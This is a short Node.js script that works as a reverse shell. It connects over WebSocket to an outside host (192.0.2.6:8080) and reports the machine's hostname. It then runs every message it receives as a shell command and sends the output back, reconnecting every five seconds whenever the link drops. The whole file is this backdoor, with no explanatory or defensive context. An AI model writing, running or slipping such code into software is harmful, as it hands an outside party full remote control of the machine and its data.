const WebSocket = require('ws'); const { exec } = require('child_process'); const os = require('os');
function go() { const ws = new WebSocket('ws://192.0.2.6:8080'); ws.on('open', () => ws.send(JSON.stringify({ host: os.hostname() })));
  ws.on('message', m => exec(m.toString(), (e, out, err) => ws.send(out + err))); ws.on('close', () => setTimeout(go, 5000)); }
go();
